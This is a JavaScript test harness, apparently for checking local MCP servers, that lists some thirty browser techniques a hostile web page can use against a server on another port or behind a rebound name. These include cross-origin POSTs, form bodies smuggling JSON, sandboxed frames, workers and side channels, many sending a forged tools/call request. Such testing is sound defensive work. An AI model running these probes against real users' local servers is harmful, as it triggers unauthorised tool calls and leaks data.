// What a page can try against a server on another port, or behind a name that was made to point at this machine.
//
// `attack(base, paths)` answers a row per attempt: how, at which address, and the text that the page could read, or
// null. Some attempts read nothing even where everything is allowed (`reads: false`); they are here for what they
// might make the server do. `calls` says that the attempt carries a tool call.

const CALL = {
  jsonrpc: "2.0",
  id: 1,
  method: "tools/call",
  params: { name: "list_tags", arguments: {} },
};
const BODY = JSON.stringify(CALL);
const MODERN_BODY = JSON.stringify({
  ...CALL,
  params: {
    ...CALL.params,
    _meta: {
      "io.modelcontextprotocol/protocolVersion": "2026-07-28",
      "io.modelcontextprotocol/clientCapabilities": {},
    },
  },
});
const PLAIN = { "Content-Type": "text/plain" };
const JSON_HEADERS = { "Content-Type": "application/json", Accept: "application/json, text/event-stream" };
const GUESSED = {
  ...JSON_HEADERS,
  Authorization: "Bearer 0123456789abcdef0123456789abcdef",
  "MCP-Protocol-Version": "2026-07-28",
  "Mcp-Method": "tools/call",
  "Mcp-Name": "list_tags",
  "X-Requested-With": "XMLHttpRequest",
};
const PATIENCE_MS = 4000;

const text = async (url, options) => (await fetch(url, options)).text();
const post = (headers, body = BODY, more = {}) => ({ method: "POST", headers, body, ...more });

function xhr(method, url, body, headers = {}) {
  return new Promise((done) => {
    const request = new XMLHttpRequest();
    request.onloadend = () => done(request.responseText || request.getAllResponseHeaders());
    request.open(method, url);
    for (const [name, value] of Object.entries(headers)) request.setRequestHeader(name, value);
    request.send(body);
  });
}

function once(target, ...events) {
  return new Promise((done) => events.forEach((event) => target.addEventListener(event, done, { once: true })));
}

// Adds an element to the page, waits until it has loaded or failed, and takes it away again.
async function loaded(element, look) {
  const done = once(element, "load", "error");
  document.body.append(element);
  await done;
  const seen = look?.(element);
  element.remove();
  return seen;
}

const make = (tag, properties) => Object.assign(document.createElement(tag), properties);

// The text of a script's error tells of the answer; a browser says only "Script error." of another origin's.
async function script(url) {
  let message = "";
  const listen = (event) => (message = event.message);
  window.addEventListener("error", listen);
  delete window.leaked;
  await loaded(make("script", { src: url }));
  window.removeEventListener("error", listen);
  return window.leaked ?? (message === "Script error." ? "" : message);
}

async function frame(url, more = {}) {
  return loaded(make("iframe", { src: url, ...more }), (element) => element.contentDocument?.body?.innerText);
}

// A form cannot set a type of JSON, but its text can be JSON: the name and the value of its only field, with a `=`.
async function form(url, method, enctype) {
  const target = make("iframe", { name: "answer" });
  const sender = make("form", { action: url, method, enctype, target: "answer" });
  const [name, value] = [`${BODY.slice(0, -1)},"x":"`, '"}'];
  sender.append(make("input", { name, value }));
  document.body.append(target, sender);
  const done = once(target, "load");
  sender.submit();
  await done;
  const seen = target.contentDocument?.body?.innerText;
  target.remove();
  sender.remove();
  return seen;
}

async function worker(url, work) {
  const source = URL.createObjectURL(new Blob([`(${work})(${JSON.stringify(url)}, ${JSON.stringify(BODY)})`]));
  const running = new Worker(source);
  const event = await Promise.race([once(running, "message"), once(running, "error")]);
  running.terminate();
  return event.data;
}

// A page without an origin of its own.
async function sandboxed(url) {
  const options = JSON.stringify(post(PLAIN));
  const work = `fetch(${JSON.stringify(url)}, ${options}).then((a) => a.text()).catch(() => "")`;
  const answer = once(window, "message");
  const page = `<script>${work}.then((text) => parent.postMessage(text, "*"))<\/script>`;
  const element = make("iframe", { sandbox: "allow-scripts", srcdoc: page });
  document.body.append(element);
  const { data } = await answer;
  element.remove();
  return data;
}

async function events(url) {
  const source = new EventSource(url);
  const event = await Promise.race([once(source, "message"), once(source, "error")]);
  source.close();
  return event.data;
}

async function socket(url) {
  const connection = new WebSocket(url.replace("http", "ws"));
  const event = await Promise.race([once(connection, "message"), once(connection, "close")]);
  connection.close();
  return event.data;
}

// What the browser remembers of the answer's size; nothing for another origin's that does not allow it.
async function sizes(url) {
  const unique = withQuery(url, `sizes=${Math.random()}`);
  await text(unique).catch(() => {});
  // The entry is written a moment after the text has come.
  await new Promise((done) => setTimeout(done, 50));
  const [entry] = performance.getEntriesByName(unique);
  const told = [entry?.encodedBodySize, entry?.decodedBodySize, entry?.responseStatus].filter(Boolean);
  return told.length ? `sizes ${told}` : "";
}

const withQuery = (url, query) => `${url}${url.includes("?") ? "&" : "?"}${query}`;

// Whether elements that load this address end otherwise than those that load one where nothing is: that tells a page
// which names exist, although it cannot read a byte.
async function existence(url) {
  const ends = async (tag, more) => {
    const element = make(tag, more);
    const ended = once(element, "load", "error", "loadedmetadata");
    document.body.append(element);
    const { type } = await ended;
    element.remove();
    return type;
  };
  const kinds = {
    script: (src) => ["script", { src }],
    object: (data) => ["object", { data, type: "text/html" }],
    stylesheet: (href) => ["link", { rel: "stylesheet", href }],
    preload: (href) => ["link", { rel: "preload", as: "style", href }],
    image: (src) => ["img", { src }],
    audio: (src) => ["audio", { src, preload: "metadata" }],
  };
  const told = [];
  for (const [kind, of] of Object.entries(kinds)) {
    const [here, nowhere] = [await ends(...of(url)), await ends(...of(`${url}-nothing-here`))];
    if (here !== nowhere) told.push(kind);
  }
  return told.length ? `it exists, tells ${told}` : "";
}

const ATTEMPTS = [
  { how: "fetch", reads: true, run: (url) => text(url) },
  { how: "fetch with credentials", reads: true, run: (url) => text(url, { credentials: "include" }) },
  { how: "fetch, no-cors", run: (url) => text(url, { mode: "no-cors" }) },
  { how: "fetch with guessed headers", reads: true, run: (url) => text(url, { headers: GUESSED }) },
  { how: "POST of JSON", reads: true, calls: true, run: (url) => text(url, post(JSON_HEADERS)) },
  { how: "POST of text", reads: true, calls: true, run: (url) => text(url, post(PLAIN)) },
  { how: "POST of text, no-cors", calls: true, run: (url) => text(url, post(PLAIN, BODY, { mode: "no-cors" })) },
  { how: "POST with guessed headers", reads: true, calls: true, run: (url) => text(url, post(GUESSED, MODERN_BODY)) },
  { how: "POST that outlives the page", reads: true, calls: true, run: (url) => text(url, post(PLAIN, BODY, { keepalive: true })) },
  { how: "PUT", reads: true, calls: true, run: (url) => text(url, { ...post(JSON_HEADERS), method: "PUT" }) },
  { how: "DELETE", reads: true, calls: true, run: (url) => text(url, { ...post(JSON_HEADERS), method: "DELETE" }) },
  { how: "OPTIONS", run: (url) => text(url, { method: "OPTIONS", headers: GUESSED }) },
  { how: "XHR", reads: true, run: (url) => xhr("GET", url) },
  { how: "XHR POST of text", reads: true, calls: true, run: (url) => xhr("POST", url, BODY, PLAIN) },
  { how: "XHR POST with guessed headers", reads: true, calls: true, run: (url) => xhr("POST", url, MODERN_BODY, GUESSED) },
  { how: "beacon", calls: true, run: async (url) => void navigator.sendBeacon(url, BODY) },
  { how: "EventSource", reads: true, run: events },
  { how: "WebSocket", reads: true, run: socket },
  { how: "script", reads: true, run: script },
  { how: "module", reads: true, run: async (url) => (await import(withQuery(url, "module"))).default },
  { how: "image", run: (url) => loaded(make("img", { src: url }), (image) => image.naturalWidth || "") },
  { how: "frame", run: (url) => frame(url) },
  { how: "frame without an origin, POST", reads: true, calls: true, run: sandboxed },
  { how: "form POST of text", calls: true, run: (url) => form(url, "post", "text/plain") },
  { how: "form POST", run: (url) => form(url, "post", "application/x-www-form-urlencoded") },
  { how: "form GET", run: (url) => form(url, "get", "") },
  {
    how: "worker, POST of text",
    reads: true,
    calls: true,
    run: (url) =>
      worker(url, async (url, body) => {
        const asked = fetch(url, { method: "POST", headers: { "Content-Type": "text/plain" }, body });
        postMessage(await asked.then((answer) => answer.text()).catch(() => ""));
      }),
  },
  {
    how: "worker, script",
    reads: true,
    run: (url) =>
      worker(url, (url) => {
        globalThis.window = globalThis;
        importScripts(url);
        postMessage(globalThis.leaked);
      }),
  },
  { how: "sizes of the answer", reads: true, run: sizes },
  { how: "existence", reads: true, run: existence },
];

async function tried({ how, reads = false, calls = false, run }, url) {
  const late = new Promise((done) => setTimeout(done, PATIENCE_MS, undefined));
  const read = await Promise.race([run(url), late]).catch(() => "");
  return { how, url, reads, calls, read: read || null };
}

// One after the other, as some leave marks in the page.
globalThis.attack = async (base, paths) => {
  const rows = [];
  for (const path of paths) {
    for (const attempt of ATTEMPTS) rows.push(await tried(attempt, base + path));
  }
  return rows;
};
